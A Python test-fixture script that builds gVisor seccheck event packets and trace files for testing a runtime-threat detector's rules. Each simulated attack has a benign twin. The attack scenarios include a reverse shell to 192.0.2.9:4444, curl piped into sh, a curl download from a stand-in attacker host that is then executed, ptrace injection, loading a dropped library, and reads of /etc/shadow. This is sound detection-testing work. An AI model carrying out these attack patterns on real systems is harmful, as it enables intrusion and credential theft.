#!/usr/bin/python3
"""gVisor seccheck packets made by an implementation independent of seccheckd's:
python3-protobuf (Debian's) with message classes of its own, built here from a
transcription of google/gvisor's pkg/sentry/seccheck/points/*.proto at commit
3c5eee17dc45659fb86843531074f38e78e0cc35 (2026-08-21; each message names the
upstream file and line). Neither seccheckd's .proto files nor protobuf-c make
these bytes, so a field seccheckd's schema got wrong shows as a wrong value.

  gvisor_packets.py check-schema PROTO_DIR   our decoder/proto/gvisor/*.proto, compiled
                                             with protoc, against the transcription
  gvisor_packets.py trace DIR SCENARIO...    DIR/SCENARIO.trace each (rules test --trace)
  gvisor_packets.py trace-one FILE SCENARIO... all in one trace file (one connection: their
                                             processes' ids overlap, for storage tests only)
  gvisor_packets.py send SOCKET SCENARIO...  a sandbox connection each: handshake, packets
  gvisor_packets.py forged-chain FILE EVENTS [DEPTH]
                                             a trace whose last event's process has a forged
                                             ancestry DEPTH deep (64), EVENTS events in between
  gvisor_packets.py list                     the scenarios

A scenario is a short story one sandbox tells: an attack from the default
rules (configs/rules/gvisor_rules.yaml), its benign twin, or every new field
once ("fields"). Run with /usr/bin/python3: Debian's python3-protobuf.
"""
import json
import os
import socket
import struct
import subprocess
import sys
import tempfile

from google.protobuf import descriptor_pb2, descriptor_pool, message_factory

UPSTREAM = "google/gvisor 3c5eee17dc45659fb86843531074f38e78e0cc35"
F = descriptor_pb2.FieldDescriptorProto
TYPES = {
    "int32": F.TYPE_INT32, "int64": F.TYPE_INT64, "uint32": F.TYPE_UINT32, "uint64": F.TYPE_UINT64,
    "bool": F.TYPE_BOOL, "string": F.TYPE_STRING, "bytes": F.TYPE_BYTES,
}

# (package, file, [(message, upstream line, [(name, number, type, repeated)])]); a type
# that is not a scalar is a message, by its full name.
CTX = "gvisor.common.ContextData"
EXIT = "gvisor.syscall.Exit"
SCHEMA = [
    ("gvisor.common", "common.proto", [
        ("Handshake", 63, [("version", 1, "uint32", False)]),
        ("Timespec", 67, [("sec", 1, "int64", False), ("nsec", 2, "int64", False)]),
        ("Credentials", 72, [("real_uid", 1, "uint32", False), ("effective_uid", 2, "uint32", False),
                             ("saved_uid", 3, "uint32", False), ("real_gid", 4, "uint32", False),
                             ("effective_gid", 5, "uint32", False), ("saved_gid", 6, "uint32", False)]),
        ("ContextData", 82, [("time_ns", 1, "int64", False), ("thread_id", 2, "int32", False),
                             ("thread_start_time_ns", 3, "int64", False), ("thread_group_id", 4, "int32", False),
                             ("thread_group_start_time_ns", 5, "int64", False), ("container_id", 6, "string", False),
                             ("credentials", 7, "gvisor.common.Credentials", False), ("cwd", 8, "string", False),
                             ("process_name", 9, "string", False), ("parent_thread_group_id", 10, "int32", False),
                             ("is_exec_session", 11, "bool", False)]),
        ("SocketIp", 108, [("family", 1, "uint32", False), ("ip", 2, "bytes", False), ("port", 3, "uint32", False)]),
        ("SocketInfo", 114, [("family", 1, "uint32", False), ("local", 2, "gvisor.common.SocketIp", False),
                             ("remote", 3, "gvisor.common.SocketIp", False)]),
        ("FdInfo", 120, [("mode", 1, "uint32", False), ("ino", 2, "uint64", False), ("path", 3, "string", False),
                         ("socket", 4, "gvisor.common.SocketInfo", False)]),
    ]),
    ("gvisor.container", "container.proto", [
        ("Start", 21, [("context_data", 1, CTX, False), ("id", 2, "string", False), ("cwd", 3, "string", False),
                       ("args", 4, "string", True), ("env", 5, "string", True), ("terminal", 6, "bool", False)]),
    ]),
    ("gvisor.sentry", "sentry.proto", [
        ("CloneInfo", 22, [("context_data", 1, CTX, False), ("created_thread_id", 3, "int32", False),
                           ("created_thread_group_id", 4, "int32", False),
                           ("created_thread_start_time_ns", 5, "int64", False), ("flags", 6, "uint64", False)]),
        ("ExecveInfo", 38, [("context_data", 1, CTX, False), ("binary_path", 2, "string", False),
                            ("argv", 3, "string", True), ("env", 4, "string", True),
                            ("binary_mode", 5, "uint32", False), ("binary_uid", 6, "uint32", False),
                            ("binary_gid", 7, "uint32", False), ("binary_sha256", 8, "bytes", False),
                            ("binary_sha1", 16, "bytes", False), ("binary_overlayfs_upper", 9, "bool", False),
                            ("binary_overlayfs_lower", 15, "bool", False), ("binary_ino", 10, "uint64", False),
                            ("binary_ctime", 11, "gvisor.common.Timespec", False),
                            ("binary_size", 18, "int64", False), ("binary_nlink", 19, "uint32", False),
                            ("binary_in_memfd", 20, "bool", False), ("stdin", 12, "gvisor.common.FdInfo", False),
                            ("stdout", 13, "gvisor.common.FdInfo", False), ("stderr", 14, "gvisor.common.FdInfo", False),
                            ("execfn", 17, "string", False),
                            ("pipe_input_proc", 21, "gvisor.sentry.PipeProcInfo", False),
                            ("pipe_output_proc", 22, "gvisor.sentry.PipeProcInfo", False)]),
        ("PipeProcInfo", 126, [("context_data", 1, CTX, False)]),
        ("ExitNotifyParentInfo", 130, [("context_data", 1, CTX, False), ("exit_status", 2, "int32", False)]),
        ("TaskExit", 138, [("context_data", 1, CTX, False), ("exit_status", 2, "int32", False)]),
        ("MmapInfo", 146, [("context_data", 1, CTX, False), ("mapped_path", 2, "string", False),
                           ("mapped_ino", 3, "uint64", False), ("mapped_mode", 4, "uint32", False),
                           ("mapped_uid", 5, "uint32", False), ("mapped_gid", 6, "uint32", False),
                           ("is_initial_mmap", 7, "bool", False), ("mapped_ctime", 8, "gvisor.common.Timespec", False),
                           ("overlayfs_upper", 9, "bool", False), ("overlayfs_lower", 10, "bool", False)]),
    ]),
    ("gvisor.syscall", "syscall.proto", [
        ("Exit", 21, [("result", 1, "int64", False), ("errorno", 2, "int64", False)]),
        ("Open", 38, [("context_data", 1, CTX, False), ("exit", 2, EXIT, False), ("sysno", 3, "uint64", False),
                      ("fd", 4, "int64", False), ("fd_path", 5, "string", False), ("pathname", 6, "string", False),
                      ("flags", 7, "uint32", False), ("mode", 8, "uint32", False)]),
        ("Close", 49, [("context_data", 1, CTX, False), ("exit", 2, EXIT, False), ("sysno", 3, "uint64", False),
                       ("fd", 4, "int64", False), ("fd_path", 5, "string", False)]),
        ("Connect", 81, [("context_data", 1, CTX, False), ("exit", 2, EXIT, False), ("sysno", 3, "uint64", False),
                         ("fd", 4, "int64", False), ("fd_path", 5, "string", False), ("address", 6, "bytes", False)]),
        ("Execve", 90, [("context_data", 1, CTX, False), ("exit", 2, EXIT, False), ("sysno", 3, "uint64", False),
                        ("fd", 4, "int64", False), ("fd_path", 5, "string", False), ("pathname", 6, "string", False),
                        ("argv", 7, "string", True), ("envv", 8, "string", True), ("flags", 9, "uint32", False)]),
        ("Socket", 102, [("context_data", 1, CTX, False), ("exit", 2, EXIT, False), ("sysno", 3, "uint64", False),
                         ("domain", 4, "int32", False), ("type", 5, "int32", False), ("protocol", 6, "int32", False)]),
        ("Dup", 170, [("context_data", 1, CTX, False), ("exit", 2, EXIT, False), ("sysno", 3, "uint64", False),
                      ("old_fd", 4, "int32", False), ("new_fd", 5, "int32", False), ("fd_path", 6, "string", False),
                      ("flags", 7, "uint32", False)]),
        ("Listen", 234, [("context_data", 1, CTX, False), ("exit", 2, EXIT, False), ("sysno", 3, "uint64", False),
                         ("fd", 4, "int32", False), ("fd_path", 5, "string", False), ("backlog", 6, "int32", False),
                         ("address", 7, "bytes", False), ("socket_family", 8, "int32", False),
                         ("socket_type", 9, "int32", False)]),
        ("Mmap", 322, [("context_data", 1, CTX, False), ("exit", 2, EXIT, False), ("sysno", 3, "uint64", False),
                       ("fd", 4, "int64", False), ("fd_path", 5, "string", False), ("addr", 6, "uint64", False),
                       ("length", 7, "uint64", False), ("prot", 8, "uint32", False), ("flags", 9, "uint32", False),
                       ("offset", 10, "int64", False)]),
        ("Ptrace", 335, [("context_data", 1, CTX, False), ("exit", 2, EXIT, False), ("sysno", 3, "uint64", False),
                         ("request", 4, "int64", False), ("pid", 5, "int32", False)]),
    ]),
]

# common.proto:129 MessageType, the values these scenarios send.
MSG = {"container/start": 1, "sentry/clone": 2, "sentry/execve": 3, "sentry/task_exit": 5, "open": 7, "close": 8,
       "connect": 10, "execve": 11, "socket": 12, "dup": 19, "sentry/mmap": 35, "mmap": 36, "listen": 37,
       "ptrace": 38}
MESSAGE_OF = {1: "gvisor.container.Start", 2: "gvisor.sentry.CloneInfo", 3: "gvisor.sentry.ExecveInfo",
              5: "gvisor.sentry.TaskExit", 7: "gvisor.syscall.Open", 8: "gvisor.syscall.Close",
              10: "gvisor.syscall.Connect", 11: "gvisor.syscall.Execve", 12: "gvisor.syscall.Socket",
              19: "gvisor.syscall.Dup", 35: "gvisor.sentry.MmapInfo", 36: "gvisor.syscall.Mmap",
              37: "gvisor.syscall.Listen", 38: "gvisor.syscall.Ptrace"}


def build_pool():
    pool = descriptor_pool.DescriptorPool()
    deps = {"gvisor.common": [], "gvisor.container": ["common.proto"], "gvisor.sentry": ["common.proto"],
            "gvisor.syscall": ["common.proto"]}
    for package, filename, messages in SCHEMA:
        fdp = descriptor_pb2.FileDescriptorProto(name=filename, package=package, syntax="proto3")
        fdp.dependency.extend(deps[package])
        for name, _line, fields in messages:
            m = fdp.message_type.add(name=name)
            for fname, number, ftype, repeated in fields:
                f = m.field.add(name=fname, number=number,
                                label=F.LABEL_REPEATED if repeated else F.LABEL_OPTIONAL)
                if ftype in TYPES:
                    f.type = TYPES[ftype]
                else:
                    f.type = F.TYPE_MESSAGE
                    f.type_name = "." + ftype
        pool.Add(fdp)
    return pool


POOL = build_pool()
_FACTORY = message_factory.MessageFactory(POOL)


def cls(full_name):
    d = POOL.FindMessageTypeByName(full_name)
    if hasattr(message_factory, "GetMessageClass"):
        return message_factory.GetMessageClass(d)
    return _FACTORY.GetPrototype(d)


# ---- check-schema ----

def check_schema(proto_dir):
    """Our .proto files, compiled with protoc, against the transcription: every
    transcribed message with exactly these fields (name, number, type, label)."""
    with tempfile.TemporaryDirectory(prefix="seccheckd-schema-") as tmp:
        out = os.path.join(tmp, "ours.pb")
        files = sorted("gvisor/" + f for f in os.listdir(os.path.join(proto_dir, "gvisor")) if f.endswith(".proto"))
        subprocess.run(["protoc", "-I", proto_dir, "--descriptor_set_out=" + out] + files, check=True)
        fds = descriptor_pb2.FileDescriptorSet()
        with open(out, "rb") as fp:
            fds.ParseFromString(fp.read())
    ours = {}
    for f in fds.file:
        for m in f.message_type:
            ours[f.package + "." + m.name] = {
                fl.number: (fl.name, fl.type, fl.label == F.LABEL_REPEATED, fl.type_name.lstrip("."))
                for fl in m.field}
    problems = []
    count = 0
    for package, filename, messages in SCHEMA:
        for name, line, fields in messages:
            full = package + "." + name
            want = {n: (fn, TYPES.get(t, F.TYPE_MESSAGE), r, "" if t in TYPES else t) for fn, n, t, r in fields}
            got = ours.get(full)
            count += 1
            if got is None:
                problems.append("%s (upstream %s:%d): missing" % (full, filename, line))
            elif got != want:
                diff = sorted(set(got.items()) ^ set(want.items()))
                problems.append("%s (upstream %s:%d): differs: %s" % (full, filename, line, diff))
    if problems:
        print("\n".join(problems))
        return 1
    print("check-schema: %d messages as %s has them" % (count, UPSTREAM))
    return 0


# ---- packets ----

def packet(msg_type, message, dropped=0):
    """wire.go:31 Header: header_size u16, message_type u16, dropped_count u32 (LE)."""
    return struct.pack("<HHI", 8, msg_type, dropped) + message.SerializeToString()


class Sandbox:
    """One sandbox's story: its processes (a table of what it told), the clock."""

    def __init__(self, container="c2026"):
        self.container = container
        self.time = 1_800_000_000_000_000_000
        self.packets = []
        self.names = {}

    def ctx(self, tgid, name=None, session=False, ppid=0, uid=0):
        self.time += 1_000_000
        c = cls(CTX)(time_ns=self.time, thread_id=tgid, thread_group_id=tgid,
                     thread_group_start_time_ns=1_799_000_000_000_000_000 + tgid, container_id=self.container,
                     cwd="/root", process_name=name or self.names.get(tgid, "sh"), parent_thread_group_id=ppid,
                     is_exec_session=session)
        c.credentials.effective_uid = uid
        c.credentials.real_uid = uid
        return c

    def add(self, kind, msg):
        self.packets.append(packet(MSG[kind], msg))
        return msg

    def start(self, tgid, argv):
        self.names[tgid] = os.path.basename(argv[0])
        m = cls("gvisor.container.Start")(context_data=self.ctx(tgid), id=self.container, cwd="/root", args=argv)
        return self.add("container/start", m)

    def clone(self, parent, child, session=False):
        self.names[child] = self.names.get(parent, "sh")
        m = cls("gvisor.sentry.CloneInfo")(context_data=self.ctx(parent, session=session), created_thread_id=child,
                                           created_thread_group_id=child,
                                           created_thread_start_time_ns=1_799_000_000_000_000_000 + child)
        return self.add("sentry/clone", m)

    def execve(self, tgid, path, argv=None, session=False, ppid=0, **facts):
        """sentry/execve; facts are ExecveInfo fields (binary_*, stdin..., pipe_*_proc as tgids)."""
        m = cls("gvisor.sentry.ExecveInfo")(context_data=self.ctx(tgid, session=session, ppid=ppid),
                                            binary_path=path, argv=argv or [os.path.basename(path)])
        for key in ("pipe_input_proc", "pipe_output_proc"):
            peer = facts.pop(key, None)
            if peer is not None:
                getattr(m, key).context_data.CopyFrom(self.ctx(peer))
        ctime = facts.pop("binary_ctime", None)
        if ctime is not None:
            m.binary_ctime.sec, m.binary_ctime.nsec = ctime
        for key in ("stdin", "stdout", "stderr"):
            fd = facts.pop(key, None)
            if fd is not None:
                getattr(m, key).CopyFrom(fd)
        for key, value in facts.items():
            setattr(m, key, value)
        self.add("sentry/execve", m)
        self.names[tgid] = os.path.basename(path)
        return m

    def syscall(self, kind, tgid, result=0, enter=False, **fields):
        m = cls(MESSAGE_OF[MSG[kind]])(context_data=self.ctx(tgid), **fields)
        if not enter:
            m.exit.result = result
        return self.add(kind, m)

    def mmap_info(self, tgid, path, **fields):
        m = cls("gvisor.sentry.MmapInfo")(context_data=self.ctx(tgid), mapped_path=path, **fields)
        return self.add("sentry/mmap", m)


def fd_info(mode, path, family=None, local=None, remote=None):
    """common.proto:120 FdInfo; local/remote are (ip bytes, port): the port as gVisor
    sends it, sockaddr's network-order bytes read as a little-endian integer
    (pkg/sentry/kernel/task_exec.go:616, socket.go:478 Htons)."""
    f = cls("gvisor.common.FdInfo")(mode=mode, path=path)
    if family is not None:
        f.socket.family = family
        for side, addr in (("local", local), ("remote", remote)):
            if addr:
                s = getattr(f.socket, side)
                s.family = family
                s.ip = addr[0]
                s.port = struct.unpack("<H", struct.pack(">H", addr[1]))[0]
    return f


S_IFSOCK, S_IFIFO, S_IFCHR, S_IFREG = 0o140000, 0o010000, 0o020000, 0o100000
AF_INET, AF_INET6 = 2, 10
IP4 = bytes([10, 0, 0, 2])
ATTACKER = bytes([192, 0, 2, 9])
NEW_BINARY = dict(binary_mode=S_IFREG | 0o755, binary_ino=4242, binary_ctime=(1_798_999_990, 0), binary_size=8000,
                  binary_nlink=1)


def shell(s):
    """A container started as bash (1) that forks a child (2)."""
    s.start(1, ["/bin/bash"])
    s.clone(1, 2)


def story_drop_exec(s):
    shell(s)
    s.execve(2, "/opt/tool/payload", binary_overlayfs_upper=True, **NEW_BINARY)


def story_drop_exec_benign(s):
    shell(s)
    s.execve(2, "/usr/bin/ls", binary_overlayfs_lower=True, **NEW_BINARY)


def story_memfd_exec(s):
    shell(s)
    s.execve(2, "/memfd:x (deleted)", binary_in_memfd=True, **dict(NEW_BINARY, binary_nlink=0))


def story_memfd_exec_benign(s):
    shell(s)
    s.execve(2, "/usr/bin/true", binary_overlayfs_lower=True, **NEW_BINARY)


def story_reverse_shell(s):
    """A socket that took descriptor 0 (close(0); socket(); connect()) and sh run on it:
    no dup at all."""
    shell(s)
    sock = fd_info(S_IFSOCK | 0o777, "socket:[5]", AF_INET, (IP4, 40000), (ATTACKER, 4444))
    s.execve(2, "/bin/sh", stdin=sock, stdout=sock, stderr=fd_info(S_IFCHR | 0o666, "/dev/null"))


def story_reverse_shell_benign(s):
    shell(s)
    s.execve(2, "/bin/sh", stdin=fd_info(S_IFIFO | 0o600, "pipe:[7]"), stdout=fd_info(S_IFCHR | 0o620, "/dev/pts/0"),
             stderr=fd_info(S_IFCHR | 0o620, "/dev/pts/0"))


def pipeline(s, left, right, left_first, base=0):
    """bash (base + 1) runs `left | right`: children base + 2 and base + 3, the pipe
    between them; left_first: the left one executes first."""
    if base == 0:
        s.start(1, ["/bin/bash"])
    else:
        s.clone(1, base + 1)
    a, b = base + 2, base + 3
    s.clone(base + 1, a)
    s.clone(base + 1, b)
    for tgid, path in ((a, left), (b, right)) if left_first else ((b, right), (a, left)):
        peer = {"pipe_output_proc": b} if tgid == a else {"pipe_input_proc": a}
        s.execve(tgid, path, **peer)


def story_curl_pipe_sh(s):
    pipeline(s, "/usr/bin/curl", "/bin/sh", True)


def story_curl_pipe_sh_late_curl(s):
    pipeline(s, "/usr/bin/curl", "/bin/sh", False)


def story_curl_pipe_grep(s):
    """Both orders, and a download piped into a program that is no shell."""
    pipeline(s, "/usr/bin/curl", "/bin/grep", True)
    pipeline(s, "/usr/bin/curl", "/bin/grep", False, base=10)
    pipeline(s, "/bin/cat", "/bin/sh", True, base=20)


def story_exec_session(s):
    s.start(1, ["/usr/bin/python3"])
    s.execve(50, "/bin/bash", session=True)


def story_exec_session_benign(s):
    shell(s)
    s.execve(2, "/bin/bash")


def story_mmap_upper(s):
    shell(s)
    s.execve(2, "/usr/bin/python3")
    s.mmap_info(2, "/tmp/libevil.so", mapped_ino=77, mapped_mode=S_IFREG | 0o755, overlayfs_upper=True)
    s.mmap_info(2, "/memfd:lib (deleted)", mapped_ino=78, mapped_mode=S_IFREG | 0o700)


def story_mmap_upper_benign(s):
    shell(s)
    s.execve(2, "/usr/bin/python3")
    s.mmap_info(2, "/usr/lib/x86_64-linux-gnu/libc.so.6", mapped_ino=12, mapped_mode=S_IFREG | 0o755,
                overlayfs_lower=True)
    s.mmap_info(2, "/tmp/app", mapped_ino=13, overlayfs_upper=True, is_initial_mmap=True)
    s.mmap_info(2, "")   # an anonymous executable mapping (a JIT)


def story_ptrace_attach(s):
    shell(s)
    s.execve(2, "/usr/bin/inject")
    s.syscall("ptrace", 2, sysno=101, request=16, pid=1)
    s.syscall("ptrace", 2, sysno=101, request=0x4206, pid=1)


def story_ptrace_benign(s):
    shell(s)
    s.execve(2, "/usr/bin/app")
    s.syscall("ptrace", 2, sysno=101, request=0, pid=0)          # PTRACE_TRACEME
    s.syscall("ptrace", 2, sysno=101, request=2, pid=1)          # PTRACE_PEEKDATA
    s.syscall("ptrace", 2, sysno=101, request=16, pid=1, enter=True)


def story_download_exec(s):
    """curl writes /root/x, then another child of the shell runs it: the sequence "Downloaded
    file executed". Its first four packets (to the write) and the last two are a chain begun and
    finished: integration.sequences sends them either side of a restart."""
    shell(s)
    s.execve(2, "/usr/bin/curl", argv=["curl", "-o", "/root/x", "http://192.0.2.9/x"])
    s.syscall("open", 2, result=3, sysno=257, fd=-100, pathname="/root/x", flags=0o1101)  # O_WRONLY|O_CREAT|O_TRUNC
    s.clone(1, 3)
    s.execve(3, "/root/x")


def story_download_exec_benign(s):
    """The same download run through an interpreter (sh /root/x: the program is sh), and a file
    run before curl writes it."""
    shell(s)
    s.clone(1, 4)
    s.execve(4, "/root/y")
    s.execve(2, "/usr/bin/curl", argv=["curl", "-o", "/root/x", "http://192.0.2.9/x"])
    s.syscall("open", 2, result=3, sysno=257, fd=-100, pathname="/root/x", flags=0o1101)
    s.syscall("open", 2, result=3, sysno=257, fd=-100, pathname="/root/y", flags=0o1101)
    s.clone(1, 3)
    s.execve(3, "/bin/sh", argv=["sh", "/root/x"])


def story_drop_mmap(s):
    """A library written in /tmp by a program that is no build tool, then mapped executable:
    the sequence "Dropped file loaded as code" (sentry/mmap: release-20260714.0 on)."""
    shell(s)
    s.syscall("open", 2, result=3, sysno=257, fd=-100, pathname="/tmp/libx.so", flags=0o1101)  # O_WRONLY|O_CREAT|O_TRUNC
    s.execve(2, "/usr/bin/python3")
    s.mmap_info(2, "/tmp/libx.so", mapped_ino=90, mapped_mode=S_IFREG | 0o755)


def story_drop_mmap_benign(s):
    """The same library written by the linker (building is the work), then loaded; and a
    library loaded that nothing wrote."""
    shell(s)
    s.execve(2, "/usr/bin/ld")
    s.syscall("open", 2, result=3, sysno=257, fd=-100, pathname="/tmp/libx.so", flags=0o1101)
    s.clone(1, 3)
    s.execve(3, "/usr/bin/python3")
    s.mmap_info(3, "/tmp/libx.so", mapped_ino=90, mapped_mode=S_IFREG | 0o755)
    s.mmap_info(3, "/tmp/liby.so", mapped_ino=91, mapped_mode=S_IFREG | 0o755)


def story_fields(s):
    """Every new message and field once, for detail, the views and the lines."""
    s.start(1, ["/bin/bash"])
    s.clone(1, 2)
    sock = fd_info(S_IFSOCK | 0o777, "socket:[5]", AF_INET, (IP4, 40000), (ATTACKER, 4444))
    s.execve(2, "/opt/tool/payload", ppid=1, binary_overlayfs_upper=True, binary_sha1=b"\x01" * 20,
             execfn="./payload", stdin=sock, stdout=fd_info(S_IFIFO | 0o600, "pipe:[9]"), pipe_output_proc=1,
             **NEW_BINARY)
    s.execve(1, "/memfd:m (deleted)", session=True, binary_in_memfd=True, **dict(NEW_BINARY, binary_nlink=0))
    s.mmap_info(2, "/tmp/libevil.so", mapped_ino=77, mapped_mode=S_IFREG | 0o755, overlayfs_upper=True)
    s.syscall("mmap", 2, result=0x7f0000000000, sysno=9, fd=3, fd_path="/tmp/libevil.so", addr=0, length=8192,
              prot=5, flags=2, offset=0)
    s.syscall("listen", 2, sysno=50, fd=3, fd_path="socket:[8]", backlog=128,
              address=bytes([2, 0, 0x11, 0x5c, 0, 0, 0, 0]) + bytes(8), socket_family=2, socket_type=1)
    s.syscall("ptrace", 2, sysno=101, request=16, pid=1)


def reads_shadow(s, own, named):
    """A sandbox whose own (root) container is `own`, as its first event says, reading
    /etc/shadow in the name of container `named` (a compromised sandbox forges the id)."""
    s.container = own
    s.start(1, ["/bin/sh"])
    s.container = named
    s.syscall("open", 1, result=3, sysno=257, fd=-100, pathname="/etc/shadow", flags=0)


def story_shadow_victim(s):
    reads_shadow(s, "victim-ctr", "victim-ctr")


def story_shadow_forger(s):
    reads_shadow(s, "tenant-ctr", "victim-ctr")


def forged_chain(events, depth=64):
    """A compromised sandbox's sentry/clone events, each naming the next pid as
    the parent of the one before (the oldest ancestor's clone first), then
    `events` events of ordinary work (clones of other processes, execs, opens),
    last the chain's bottom process opening /etc/shadow (an alert to show).
    Each generation of `seccheckd alerts show` looks for its process's clone
    and exec before the one it came from: every clone and exec row in between
    is in the way unless an index fits (issue 32 item 9)."""
    s = Sandbox("forged-chain")
    s.start(1, ["/bin/sh"])
    bottom = 100000
    for gen in range(depth, 0, -1):
        s.clone(bottom + gen, bottom + gen - 1)
    for i in range(events):
        worker = 2 + i % 50
        if i % 4 in (0, 1):
            s.clone(worker, 200000 + i)
        elif i % 4 == 2:
            s.execve(worker, "/usr/bin/true", ["true", str(i)])
        else:
            s.syscall("open", worker, result=3, sysno=257, fd=-100, pathname="/tmp/f%d" % (i % 1000), flags=0)
    s.syscall("open", bottom, result=3, sysno=257, fd=-100, pathname="/etc/shadow", flags=0)
    return s.packets


STORIES = {name[len("story_"):]: fn for name, fn in globals().items() if name.startswith("story_")}


def story_packets(name):
    s = Sandbox("c2026-" + name.replace("_", "-"))
    STORIES[name](s)
    return s.packets


def write_trace(path, packets):
    """decoder/tracefile.h's layout, gVisor's tracereplay: magic, u64 length + JSON
    config, then u64 length + packet each (LE)."""
    config = json.dumps({"version": 1}).encode()
    with open(path, "wb") as fp:
        fp.write(b"tracereplay file" + struct.pack("<Q", len(config)) + config)
        for p in packets:
            fp.write(struct.pack("<Q", len(p)) + p)


def send(path, packets):
    """One sandbox connection as runsc's remote sink makes it: SOCK_SEQPACKET,
    Handshake{version: 1} each way (common.proto:63), then a packet per event."""
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    sock.settimeout(10)
    sock.connect(path)
    sock.send(cls("gvisor.common.Handshake")(version=1).SerializeToString())
    answer = cls("gvisor.common.Handshake")()
    answer.ParseFromString(sock.recv(10240))
    if answer.version < 1:
        raise SystemExit("gvisor_packets: the collector answered version %d" % answer.version)
    for p in packets:
        sock.send(p)
    sock.close()


def main(argv):
    if len(argv) >= 2 and argv[1] == "check-schema" and len(argv) == 3:
        return check_schema(argv[2])
    if len(argv) == 2 and argv[1] == "list":
        print("\n".join(sorted(STORIES)))
        return 0
    if len(argv) in (4, 5) and argv[1] == "forged-chain":
        write_trace(argv[2], forged_chain(int(argv[3]), int(argv[4]) if len(argv) == 5 else 64))
        return 0
    if len(argv) >= 4 and argv[1] == "trace-one":
        write_trace(argv[2], [p for name in argv[3:] for p in story_packets(name)])
        return 0
    if len(argv) >= 4 and argv[1] in ("trace", "send"):
        unknown = [n for n in argv[3:] if n not in STORIES]
        if unknown:
            print("gvisor_packets: unknown scenario %s (list shows them)" % ", ".join(unknown), file=sys.stderr)
            return 2
        for name in argv[3:]:   # each its own sandbox: a trace file, a connection
            if argv[1] == "trace":
                write_trace(os.path.join(argv[2], name + ".trace"), story_packets(name))
            else:
                send(argv[2], story_packets(name))
        return 0
    print(__doc__, file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
